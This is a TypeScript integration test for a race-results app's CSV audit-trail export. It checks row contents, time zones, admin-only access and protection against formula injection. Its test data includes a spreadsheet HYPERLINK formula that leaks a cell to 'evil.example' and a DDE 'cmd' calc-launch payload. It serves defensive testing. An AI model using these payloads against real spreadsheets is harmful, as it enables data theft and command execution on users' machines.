import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EventRow, User } from '../../api/db/schema.ts';
import { bearer, callAs, createTestApp, type Method, sessionsWritten, type TestApp } from '../support/app.ts';
import { readCsv } from '../support/csv.ts';
import { expectEnvelope } from '../support/expect-envelope.ts';
import { insertEvent, insertRegistration, insertResult, insertRun, insertUser } from '../support/factories.ts';

/**
 * A run's audit trail as CSV (docs/decisions/064-audit-trail-csv.md), through the real app and database:
 * results entered, penalties added and removed, a correction, validations, a send-back, a void and its
 * rerun go through the API, then the file is downloaded over a real HTTP connection and read back
 * strictly, row by row. Names and reasons carry formulas, commas, quotes and line breaks; none of it may
 * come out as a formula or split a row. Admins only.
 */

/**
 * A zone other than the default, so the local time is checked against UTC, not against itself; one
 * without daylight saving time (Saskatchewan: UTC-6 all year), so the check holds whatever the date.
 */
const ZONE = 'America/Regina';

let t: TestApp;
let admin: User;
let official: User;
let superAdmin: User;
let otherAdmin: User;
let competitor: User;
let event: EventRow;
let address: string;
const db = () => t.database.db;

const HOSTILE_FIRST = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const HOSTILE_REASON = '=cmd|\' /C calc\'!A0, "quoted", comma\nsecond line';

beforeAll(async () => {
  t = await createTestApp({ env: { SITE_TIMEZONE: ZONE } });
  admin = await insertUser(db(), { role: 'admin', first_name: 'Alex', last_name: 'Morgan' });
  // A second official whose name was stored before the input rules (a legacy import, say): the file must
  // still be safe.
  official = await insertUser(db(), { role: 'admin', first_name: '@Sam', last_name: 'Lee,\r\n"Jr"' });
  superAdmin = await insertUser(db(), { role: 'super-admin', first_name: 'Sue', last_name: 'Per' });
  otherAdmin = await insertUser(db(), { role: 'admin', first_name: 'Other', last_name: 'Admin' });
  competitor = await insertUser(db(), { role: 'user', first_name: HOSTILE_FIRST, last_name: 'Côté' });
  event = await insertEvent(db(), { name: 'Défi de Lévis', start_date: '2027-06-12' });
  address = await t.app.listen({ port: 0, host: '127.0.0.1' });
});
afterAll(async () => {
  await t?.close();
});

const send = (method: Method, url: string, payload: unknown, caller: User = admin) =>
  callAs(t.app, method, url, caller, payload);

async function ok(method: Method, url: string, payload: unknown, caller: User = admin) {
  const res = await send(method, url, payload, caller);
  expect(res.statusCode, `${method} ${url}: ${res.body}`).toBe(200);
  return res;
}

/** A run of the event with these people registered and its order generated. */
async function runWith(people: User[], name = 'Individuel hommes') {
  const run = await insertRun(db(), event.id, { name, participant_limit: 20 });
  const registrations: number[] = [];
  for (const person of people)
    registrations.push((await insertRegistration(db(), { runId: run.id, userId: person.id })).id);
  await ok('POST', `/api/run-orders/run/${run.id}/generate`, {
    expectedVersion: 0,
    seeding: { rule: 'random', seed: 4, separateDepartments: false, minRest: 0 },
    heatSize: 2,
  });
  return { run, registrations };
}

/** The file over a real connection, as the portal's download fetches it. */
async function download(runId: number | string, caller?: User) {
  // Signed first: signing is what starts the token's session write, which must land before the fetch.
  const headers = caller ? bearer(t.app, caller) : {};
  await sessionsWritten(t.app);
  const res = await fetch(`${address}/api/documents/run/${runId}/audit-trail.csv`, { headers });
  return { res, text: Buffer.from(await res.arrayBuffer()).toString('utf8') };
}

/** The rows of the file as header → cell records. */
function rowsOf(text: string): { header: string[]; rows: Record<string, string>[] } {
  const [header = [], ...rows] = readCsv(text);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return { header, rows: rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i] ?? '']))) };
}

const BEFORE = ['Raw time before', 'Penalties before', 'Outcome before', 'Official time before'];
const AFTER = ['Raw time after', 'Penalties after', 'Outcome after', 'Official time after'];
const value = (names: string[], cells: [string, string, string, string]) =>
  Object.fromEntries(names.map((n, i) => [n, cells[i]]));
const NONE: [string, string, string, string] = ['', '', '', ''];

describe('the audit trail of a run (CSV)', () => {
  it("holds every result event of the run, one row each, in the log's order, with who, whom, before, after and why", async () => {
    const second = await insertUser(db(), { first_name: 'Hélène', last_name: 'Bérubé' });
    const third = await insertUser(db(), { first_name: 'Jérôme', last_name: 'Gagné' });
    const { run, registrations } = await runWith([competitor, second, third]);
    const [r1, r2, r3] = registrations as [number, number, number];
    const elsewhere = await runWith([await insertUser(db(), { first_name: 'Other', last_name: 'Runner' })], 'Autre');

    // r1: entered with a false start, a missed step added, the false start taken back, validated, then
    // corrected with a reason (official, so the reason is required).
    await ok('POST', '/api/results', {
      expectedVersion: 0,
      registrationId: r1,
      rawTime: '1:47.32',
      penalties: ['false-start'],
    });
    await ok('POST', `/api/results/${r1}/penalties`, { expectedVersion: 1, infraction: 'missed-step' });
    await ok('POST', `/api/results/${r1}/penalties/remove`, { expectedVersion: 2, infraction: 'false-start' });
    // r2: entered, validated, sent back with a note, voided for a rerun, entered again and validated by
    // the admin who entered it, with a reason.
    await ok('POST', '/api/results', { expectedVersion: 0, registrationId: r2, rawTime: '2:00.00' });
    await ok('POST', `/api/results/${r1}/validate`, { expectedVersion: 3 }, official);
    await ok('POST', `/api/results/${r2}/validate`, { expectedVersion: 1 }, official);
    await ok('PUT', `/api/results/${r1}`, { expectedVersion: 4, rawTime: '1:46.00', reason: HOSTILE_REASON });
    await ok('POST', `/api/results/${r2}/withdraw`, { expectedVersion: 2, reason: '@SUM(A1)\tcheck lane 2' }, official);
    await ok('POST', `/api/results/${r2}/void`, { expectedVersion: 3, reason: '-2+3 Timing gate failed' });
    // A NUL in a reason never reaches the log: refused, nothing recorded.
    expectEnvelope(
      await send('POST', `/api/results/${r2}/void`, { expectedVersion: 4, reason: 'bad\u0000reason' }),
      400,
      'VALIDATION_FAILED',
    );
    await ok('POST', '/api/results', { expectedVersion: 4, registrationId: r2, rawTime: '1:55.00' });
    await ok('POST', `/api/results/${r2}/validate`, { expectedVersion: 5, ownEntryReason: 'Alone at the table' });
    // r3: recorded with no signed-in user (as the demo data is): the system.
    await insertResult(db(), { registrationId: r3, outcome: 'dnf' });
    // Another run's result is not in this run's trail.
    await ok('POST', '/api/results', {
      expectedVersion: 0,
      registrationId: elsewhere.registrations[0],
      rawTime: '1:40.00',
    });

    const { res, text } = await download(run.id, admin);
    expect(res.status, text).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="audit-trail-defi-de-levis-individuel-hommes.csv"',
    );
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');

    const { header, rows } = rowsOf(text);
    expect(header).toEqual([
      'Time (UTC)',
      `Local time (${ZONE})`,
      'By',
      'By user id',
      'Competitor',
      'Registration id',
      'Attempt',
      'Event',
      'Details',
      ...BEFORE,
      'Status before',
      ...AFTER,
      'Status after',
      'Reason or note',
    ]);

    const alex = { By: 'Alex Morgan', 'By user id': String(admin.id) };
    const sam = { By: '\'@Sam Lee,\r\n"Jr"', 'By user id': String(official.id) };
    const c1 = { Competitor: `'${HOSTILE_FIRST} Côté`, 'Registration id': String(r1) };
    const c2 = { Competitor: 'Hélène Bérubé', 'Registration id': String(r2) };
    const c3 = { Competitor: 'Jérôme Gagné', 'Registration id': String(r3) };
    const expected = [
      {
        ...alex,
        ...c1,
        Attempt: '1',
        Event: 'Entered',
        ...value(BEFORE, NONE),
        'Status before': '',
        ...value(AFTER, ['1:47.32', 'False start', 'Finished', '1:49.32']),
        'Status after': 'provisional',
        'Reason or note': '',
      },
      {
        ...alex,
        ...c1,
        Attempt: '1',
        Event: 'Penalty added',
        Details: 'Penalty added: Missed step on the descent (+2 s)',
        ...value(BEFORE, ['1:47.32', 'False start', 'Finished', '1:49.32']),
        'Status before': 'provisional',
        ...value(AFTER, ['1:47.32', 'False start, Missed step on the descent', 'Finished', '1:51.32']),
        'Status after': 'provisional',
        'Reason or note': '',
      },
      {
        ...alex,
        ...c1,
        Event: 'Penalty removed',
        ...value(BEFORE, ['1:47.32', 'False start, Missed step on the descent', 'Finished', '1:51.32']),
        ...value(AFTER, ['1:47.32', 'Missed step on the descent', 'Finished', '1:49.32']),
        'Status after': 'provisional',
      },
      {
        ...alex,
        ...c2,
        Attempt: '1',
        Event: 'Entered',
        ...value(BEFORE, NONE),
        'Status before': '',
        ...value(AFTER, ['2:00.00', '', 'Finished', '2:00.00']),
        'Status after': 'provisional',
      },
      {
        ...sam,
        ...c1,
        Event: 'Validated',
        Details: 'Validated (official)',
        ...value(BEFORE, NONE),
        'Status before': 'provisional',
        ...value(AFTER, NONE),
        'Status after': 'official',
        'Reason or note': '',
      },
      { ...sam, ...c2, Event: 'Validated', 'Status before': 'provisional', 'Status after': 'official' },
      {
        ...alex,
        ...c1,
        Attempt: '1',
        Event: 'Corrected',
        ...value(BEFORE, ['1:47.32', 'Missed step on the descent', 'Finished', '1:49.32']),
        'Status before': 'official',
        ...value(AFTER, ['1:46.00', '', 'Finished', '1:46.00']),
        'Status after': 'provisional',
        'Reason or note': `'${HOSTILE_REASON}`,
      },
      {
        ...sam,
        ...c2,
        Event: 'Sent back',
        ...value(BEFORE, NONE),
        'Status before': 'official',
        ...value(AFTER, NONE),
        'Status after': 'provisional',
        'Reason or note': "'@SUM(A1)\tcheck lane 2",
      },
      {
        ...alex,
        ...c2,
        Attempt: '1',
        Event: 'Voided',
        Details: 'Attempt 1 voided for a rerun: -2+3 Timing gate failed',
        ...value(BEFORE, ['2:00.00', '', 'Finished', '2:00.00']),
        'Status before': 'provisional',
        ...value(AFTER, NONE),
        'Status after': '',
        'Reason or note': "'-2+3 Timing gate failed",
      },
      {
        ...alex,
        ...c2,
        Attempt: '2',
        Event: 'Entered',
        ...value(BEFORE, NONE),
        'Status before': '',
        ...value(AFTER, ['1:55.00', '', 'Finished', '1:55.00']),
        'Status after': 'provisional',
      },
      {
        ...alex,
        ...c2,
        Attempt: '2',
        Event: 'Validated',
        'Status before': 'provisional',
        'Status after': 'official',
        'Reason or note': 'Alone at the table',
      },
      {
        By: 'System',
        'By user id': '',
        ...c3,
        Event: 'Entered',
        ...value(AFTER, ['', '', 'DNF', '']),
        'Status after': 'provisional',
      },
    ];
    expect(rows).toHaveLength(expected.length);
    rows.forEach((row, i) => {
      expect(row, `row ${i + 1}`).toMatchObject(expected[i] as Record<string, string>);
    });
    expect(rows[0]?.Details).toMatch(/^Entered: 1:47\.32 \+ False start, heat \d+ position \d+$/);
    expect(rows[6]?.Details).toContain('Corrected from 1:47.32 + Missed step on the descent to 1:46.00');
    expect(text).not.toContain('Other Runner');

    // When: UTC in ISO 8601, in the log's order, and the venue's clock (six hours behind, CST).
    let previous = '';
    for (const row of rows) {
      const utc = row['Time (UTC)'] as string;
      expect(utc).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      expect(utc >= previous).toBe(true);
      previous = utc;
      const local = /^(\d{4}-\d\d-\d\d) (\d\d:\d\d:\d\d) CST$/.exec(row[`Local time (${ZONE})`] as string);
      expect(local, row[`Local time (${ZONE})`]).not.toBeNull();
      const [, day, clock] = local as RegExpExecArray;
      expect(Date.parse(`${utc.slice(0, 19)}Z`) - Date.parse(`${day}T${clock}Z`)).toBe(6 * 3_600_000);
    }

    // The attacker's view: no cell a spreadsheet would run, no control character but tab and line breaks.
    for (const cell of readCsv(text).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
    expect(text).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
  });

  it('gives an admin any run, a super-admin too; refuses users (even a competitor of the run) and the signed-out', async () => {
    const { run, registrations } = await runWith([competitor]);
    await ok('POST', '/api/results', { expectedVersion: 0, registrationId: registrations[0], rawTime: '1:50.00' });

    const mine = await download(run.id, admin);
    expect(mine.res.status).toBe(200);
    // Another admin's run: admins see every run's trail, the same file.
    for (const caller of [otherAdmin, superAdmin]) {
      const theirs = await download(run.id, caller);
      expect(theirs.res.status, theirs.text).toBe(200);
      expect(theirs.text).toBe(mine.text);
    }

    const signedOut = await download(run.id);
    expect(signedOut.res.status).toBe(401);
    expect(JSON.parse(signedOut.text)).toMatchObject({ code: 'UNAUTHORIZED' });
    for (const caller of [competitor, await insertUser(db(), { role: 'user' })]) {
      const refused = await download(run.id, caller);
      expect(refused.res.status).toBe(403);
      expect(JSON.parse(refused.text)).toMatchObject({ code: 'FORBIDDEN' });
      expect(refused.text).not.toContain('1:50.00');
    }
  });

  it('answers unknown and malformed run ids as the other documents do; a run without results is a header only', async () => {
    const url = (runId: string) => `/api/documents/run/${runId}/audit-trail.csv`;
    const get = (runId: string, caller?: User) => callAs(t.app, 'GET', url(runId), caller);
    expectEnvelope(await get('999999', admin), 404, 'RUN_NOT_FOUND');
    for (const bad of ['abc', '0', '-1', '1.5', '99999999999999999999']) {
      expectEnvelope(await get(bad, admin), 400, 'VALIDATION_FAILED');
    }
    // The same answers as the neighbouring results.csv for the same ids.
    expectEnvelope(await callAs(t.app, 'GET', '/api/documents/run/999999/results.csv', admin), 404, 'RUN_NOT_FOUND');
    expectEnvelope(await callAs(t.app, 'GET', '/api/documents/run/abc/results.csv', admin), 400, 'VALIDATION_FAILED');
    // Signed out, an unknown run is refused before anything is looked up: no hint whether it exists.
    expectEnvelope(await get('999999'), 401, 'UNAUTHORIZED');

    const deleted = await insertRun(db(), event.id, { name: 'Deleted', deleted_at: new Date() });
    expectEnvelope(await get(String(deleted.id), admin), 404, 'RUN_NOT_FOUND');

    const empty = await insertRun(db(), event.id, { name: 'Empty' });
    const res = await get(String(empty.id), admin);
    expect(res.statusCode, res.body).toBe(200);
    expect(readCsv(res.rawPayload.toString('utf8'))).toHaveLength(1);
  });
});
